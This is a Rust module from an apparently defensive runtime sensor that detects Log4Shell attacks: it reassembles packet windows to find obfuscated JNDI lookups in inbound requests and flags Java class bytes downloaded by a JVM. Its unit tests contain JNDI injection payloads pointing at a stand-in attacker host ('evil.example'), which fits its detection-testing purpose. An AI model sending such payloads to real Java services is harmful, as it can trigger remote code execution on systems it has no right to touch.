//! Rules `jndi_probe` and `jvm_class_download`: the first and third stages of a Log4Shell
//! attack, seen as bytes arriving at the JVM.
//!
//! - `jndi_probe` (medium): a request the JVM received carries a JNDI lookup, however it was
//!   obfuscated. The kernel only forwards samples that contain the start of a lookup
//!   (`${`, `%24`, `\u0024`); `protocols::jndi` decides. Probes are everywhere on the
//!   internet: this alone is noise-level, and becomes evidence when the same JVM then
//!   reaches out (see `correlate`). The kernel sends windows around each lookup start of a
//!   request head, over all its packets; consecutive windows of one request are joined here
//!   ([`Windows`]), so a lookup split over two packets (or longer than a window) is whole.
//! - `jvm_class_download` (critical): Java class bytes arrived on a connection the JVM (or
//!   a descendant) made — in an HTTP response or raw: the class a JNDI reference names.

use std::collections::{HashMap, HashSet};

use super::{jvm_name, Detection, Network};
use crate::{
    events::{Inbound, InboundKind},
    process_table::ProcessTable,
    protocols::jndi,
    vocab::{Action, Direction, ProcessKey, Rule, Severity, Transport},
};

/// Entries remembered for de-duplication, at most (then the memory starts over).
const MAX_REMEMBERED: usize = 65_536;

/// Bytes of a request kept for joining with the next window, at most: a lookup longer than
/// this is judged in parts.
pub const MAX_JOINED: usize = 4096;

/// The last window of each connection's current request, to join the next one with.
#[derive(Debug, Default)]
pub struct Windows {
    by_cookie: HashMap<u64, Window>,
}

/// Bytes of a request head, from `offset`.
#[derive(Debug)]
struct Window {
    request: u32,
    offset: u32,
    bytes: Vec<u8>,
}

impl Windows {
    /// The text to judge for this sample and where it starts in its request head: the
    /// sample joined to the previous window of the same request when the two touch or
    /// overlap, else the sample alone. Remembers the result for the next window.
    pub fn join(&mut self, i: &Inbound) -> (&[u8], u32) {
        if self.by_cookie.len() >= MAX_REMEMBERED && !self.by_cookie.contains_key(&i.cookie) {
            self.by_cookie.clear();
        }
        let window = self.by_cookie.entry(i.cookie).or_insert(Window {
            request: i.request,
            offset: i.offset,
            bytes: Vec::new(),
        });
        let end = window.offset as usize + window.bytes.len();
        let start = i.offset as usize;
        let sample_end = start + i.sample.len();
        if window.request == i.request && start >= window.offset as usize && start <= end {
            if sample_end > end {
                window.bytes.extend_from_slice(&i.sample[end - start..]);
            }
        } else {
            window.request = i.request;
            window.offset = i.offset;
            window.bytes.clear();
            window.bytes.extend_from_slice(&i.sample);
        }
        if window.bytes.len() > MAX_JOINED {
            let drop = window.bytes.len() - MAX_JOINED;
            window.bytes.drain(..drop);
            // Saturating: a window past 4 GiB into a head (only a crafted recording has one;
            // the kernel's offsets stay within a head it can sample) stays at the end of
            // what an offset can say, rather than wrapping to the request line (or
            // panicking, with overflow checks: found by fuzzing).
            let drop = u32::try_from(drop).unwrap_or(u32::MAX);
            window.offset = window.offset.saturating_add(drop);
        }
        (&window.bytes, window.offset)
    }
}

/// The lookups in `text`, the joined windows of a request from `offset` in its head. When
/// the last window was `cut` (it stops at the end of a packet inside the head), a lookup
/// still open at the end may go on in the next packet: it is left for the join with that
/// packet's window.
pub fn find_jndi_in(text: &[u8], offset: u32, cut: bool) -> Vec<jndi::JndiFinding> {
    let mut findings = if offset == 0 {
        jndi::find_jndi(text)
    } else {
        jndi::find_jndi_in_head(text)
    };
    if cut {
        findings.retain(|f| f.raw.ends_with('}'));
    }
    findings
}

/// What the inbound rules remember between events.
#[derive(Debug, Default)]
pub struct InboundState {
    /// The windows of each connection's current request.
    windows: Windows,
    /// (JVM, normalised lookup) already reported: a scanner repeating its probe is one alert.
    probes: HashSet<(ProcessKey, String)>,
    /// (JVM, connection) already reported for class bytes.
    classes: HashSet<(ProcessKey, u64)>,
    /// Samples with a lookup string whose cgroup held no known JVM.
    pub unattributed: u64,
}

impl InboundState {
    pub fn forget_jvm(&mut self, jvm: ProcessKey) {
        self.probes.retain(|(j, _)| *j != jvm);
        self.classes.retain(|(j, _)| *j != jvm);
    }
}

fn remember<T: std::hash::Hash + Eq>(set: &mut HashSet<T>, key: T) -> bool {
    if set.len() >= MAX_REMEMBERED {
        set.clear();
    }
    set.insert(key)
}

fn endpoint(i: &Inbound) -> String {
    match i.remote {
        std::net::IpAddr::V4(v4) => format!("{v4}:{}", i.remote_port),
        std::net::IpAddr::V6(v6) => format!("[{v6}]:{}", i.remote_port),
    }
}

fn network(i: &Inbound, indicator: Option<String>) -> Network {
    Network {
        direction: Direction::Inbound,
        local_port: Some(i.local_port),
        transport: Transport::Tcp,
        dst_ip: i.remote,
        dst_port: i.remote_port,
        protocol: None,
        recognised_by: None,
        indicator,
        dns_name: None,
    }
}

/// The Java version a class file's major version number stands for.
fn java_version(major: u16) -> Option<u16> {
    (45..=80).contains(&major).then(|| major.saturating_sub(44))
}

/// Judges bytes the inbound sensor forwarded.
pub fn evaluate(table: &ProcessTable, state: &mut InboundState, i: &Inbound) -> Option<Detection> {
    match i.kind {
        InboundKind::Class => class_download(table, state, i),
        InboundKind::Probe => probe(table, state, i),
    }
}

fn class_download(
    table: &ProcessTable,
    state: &mut InboundState,
    i: &Inbound,
) -> Option<Detection> {
    let lineage = i.lineage?;
    let jvm = lineage.jvm();
    let at = i.match_at as usize;
    // Bytes 4..8 of a class file: minor and major version, big-endian.
    let major = i
        .sample
        .get(at + 6..at + 8)
        .map(|b| u16::from_be_bytes([b[0], b[1]]));
    let version = match major {
        Some(m) => match java_version(m) {
            Some(v) => format!("class file version {m} (Java {v})"),
            // CAFEBABE is also the Mach-O fat binary magic; say what we saw.
            None => format!("CAFEBABE magic with version field {m}"),
        },
        None => "CAFEBABE magic".to_owned(),
    };
    if !remember(&mut state.classes, (jvm, i.cookie)) {
        return None;
    }
    let name = jvm_name(table, jvm);
    let mut summary = format!(
        "{name} (pid {}) received Java class bytes from {} ({version})",
        jvm.tgid,
        endpoint(i)
    );
    if lineage.depth > 0 {
        summary.push_str(&format!(
            " on a connection of a descendant (pid {})",
            i.tgid
        ));
    }
    if i.blocked {
        summary.push_str("; blocked: the response was dropped before the JVM could read it");
    }
    let process = table.get(i.tgid).map_or(
        ProcessKey {
            tgid: i.tgid,
            start_ns: 0,
        },
        |p| p.key,
    );
    Some(Detection {
        rule: Rule::JvmClassDownload,
        severity: Severity::Critical,
        summary,
        action: if i.blocked {
            Action::Blocked
        } else {
            Action::Reported
        },
        process,
        jvm,
        class: None,
        network: Some(network(i, Some(version))),
        incident_id: String::new(),
    })
}

fn probe(table: &ProcessTable, state: &mut InboundState, i: &Inbound) -> Option<Detection> {
    let (text, offset) = state.windows.join(i);
    let findings = find_jndi_in(text, offset, i.cut);
    // The first lookup not yet reported (a joined text repeats the ones reported before).
    let jvm = table.jvms_in_cgroup(i.cgroup_id).first().map(|p| p.key);
    let finding = findings
        .iter()
        .find(|f| jvm.is_none_or(|jvm| !state.probes.contains(&(jvm, f.normalized.clone()))))?;
    let Some(jvm) = jvm else {
        state.unattributed += 1;
        return None;
    };
    if !remember(&mut state.probes, (jvm, finding.normalized.clone())) {
        return None;
    }
    let name = jvm_name(table, jvm);
    let mut summary = format!(
        "{name} (pid {}) received a JNDI lookup from {} in {}: {}",
        jvm.tgid,
        endpoint(i),
        finding.location,
        finding.normalized
    );
    if !finding.obfuscations.is_empty() {
        summary.push_str(&format!(
            " (obfuscated: {})",
            finding.obfuscations.join(", ")
        ));
    }
    Some(Detection {
        rule: Rule::JndiProbe,
        severity: Severity::Medium,
        summary,
        action: Action::Reported,
        process: jvm,
        jvm,
        class: None,
        network: Some(network(
            i,
            Some(format!("{}://{}", finding.scheme, finding.target)),
        )),
        incident_id: String::new(),
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(cookie: u64, request: u32, offset: u32, bytes: &[u8], cut: bool) -> Inbound {
        Inbound {
            time_ns: 0,
            kind: InboundKind::Probe,
            lineage: None,
            tgid: 0,
            cgroup_id: 1,
            cookie,
            remote: std::net::IpAddr::V4(std::net::Ipv4Addr::LOCALHOST),
            remote_port: 40000,
            local_port: 8080,
            blocked: false,
            match_at: 0,
            offset,
            request,
            cut,
            continued: !cut && offset > 0,
            sample: bytes.to_vec(),
        }
    }

    fn targets(text: &[u8], offset: u32, cut: bool) -> Vec<String> {
        find_jndi_in(text, offset, cut)
            .into_iter()
            .map(|f| f.normalized)
            .collect()
    }

    #[test]
    fn a_lookup_split_over_two_packets_is_found_in_the_join_only() {
        let mut windows = Windows::default();
        let head = b"GET / HTTP/1.1\r\nUser-Agent: ${jndi:ld";
        let first = sample(7, 0, 0, head, true);
        let (text, offset) = windows.join(&first);
        assert!(
            targets(text, offset, true).is_empty(),
            "an open lookup at a cut waits for the next packet"
        );
        let rest = b"ap://evil.example/a}\r\n\r\n";
        let second = sample(7, 0, head.len() as u32, rest, false);
        let (text, offset) = windows.join(&second);
        assert_eq!(offset, 0);
        assert_eq!(
            targets(text, offset, false),
            ["${jndi:ldap://evil.example/a}"]
        );
    }

    #[test]
    fn overlapping_windows_join_without_repeating_bytes() {
        let mut windows = Windows::default();
        let _ = windows.join(&sample(1, 0, 100, b"abcdef", false));
        let (text, offset) = windows.join(&sample(1, 0, 103, b"defghi", false));
        assert_eq!((text, offset), (&b"abcdefghi"[..], 100));
        // A gap, another request, another connection: no join.
        let (text, _) = windows.join(&sample(1, 0, 200, b"xyz", false));
        assert_eq!(text, b"xyz");
        let (text, _) = windows.join(&sample(1, 1, 203, b"123", false));
        assert_eq!(text, b"123");
        let (text, _) = windows.join(&sample(2, 1, 206, b"456", false));
        assert_eq!(text, b"456");
    }

    #[test]
    fn joined_text_is_bounded() {
        let mut windows = Windows::default();
        let chunk = [b'a'; 512];
        let mut offset = 0;
        for _ in 0..20 {
            let _ = windows.join(&sample(3, 0, offset, &chunk, false));
            offset += 448;
        }
        let (text, start) = windows.join(&sample(3, 0, offset, &chunk, false));
        assert_eq!(text.len(), MAX_JOINED);
        assert_eq!(start as usize + text.len(), offset as usize + chunk.len());
    }

    /// Found by fuzzing (fuzz/regressions/inbound/offset-overflow-on-drop): a recorded
    /// window near the end of what a u32 offset can say, longer than what is kept.
    #[test]
    fn a_window_at_the_largest_offsets_saturates() {
        let mut windows = Windows::default();
        let chunk = [b'a'; MAX_JOINED + 100];
        let (text, start) = windows.join(&sample(4, 0, u32::MAX - 10, &chunk, false));
        assert_eq!(text.len(), MAX_JOINED);
        assert_eq!(start, u32::MAX);
    }

    #[test]
    fn a_window_from_inside_a_head_is_located_by_header() {
        let window =
            b"ml,application/xhtml\r\nX-Api-Version: ${jndi:ldap://evil.example/a}\r\n\r\n";
        let findings = find_jndi_in(window, 12_345, false);
        assert_eq!(findings.len(), 1);
        assert_eq!(findings[0].location, "header:X-Api-Version");
    }
}
